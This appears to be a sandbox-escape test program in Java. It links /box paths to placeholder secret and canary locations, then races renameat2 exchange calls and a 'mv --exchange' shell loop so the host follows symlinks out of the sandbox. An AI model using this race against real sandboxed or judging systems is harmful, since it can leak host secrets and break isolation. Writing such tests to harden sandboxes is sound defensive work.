import java.lang.foreign.*;
import java.nio.file.*;

import static java.lang.foreign.ValueLayout.*;

// Names change what they are all the time, from before the end until after it.
class Main {
    public static void main(String[] args) throws Throwable {
        System.out.println("attempt");
        Files.createDirectory(Path.of("/box/real"));
        Files.createSymbolicLink(Path.of("/box/link"), Path.of("@CANARY_DIR@"));
        Files.createSymbolicLink(Path.of("/box/secret"), Path.of("@SECRET@"));
        Files.createFile(Path.of("/box/file"));
        String more = "mkfifo /box/fifo; while :; do mv -T --exchange /box/real /box/link; mv -T --exchange /box/Main.java /box/secret; done";
        new ProcessBuilder("/bin/sh", "-c", more).redirectErrorStream(true).redirectOutput(Path.of("/dev/null").toFile()).start();
        var libc = Linker.nativeLinker();
        var renameat2 = libc.downcallHandle(libc.defaultLookup().findOrThrow("renameat2"),
            FunctionDescriptor.of(JAVA_INT, JAVA_INT, ADDRESS, JAVA_INT, ADDRESS, JAVA_INT));
        var names = Arena.global();
        String[] one = {"/box/real", "/box/file", "/box/Main.java"}, other = {"/box/link", "/box/fifo", "/box/secret"};
        long end = System.nanoTime() + 2_000_000_000L;
        for (int n = 0; System.nanoTime() < end; n = (n + 1) % 3)
            renameat2.invokeWithArguments(-100, names.allocateFrom(one[n]), -100, names.allocateFrom(other[n]), 2);
    }
}
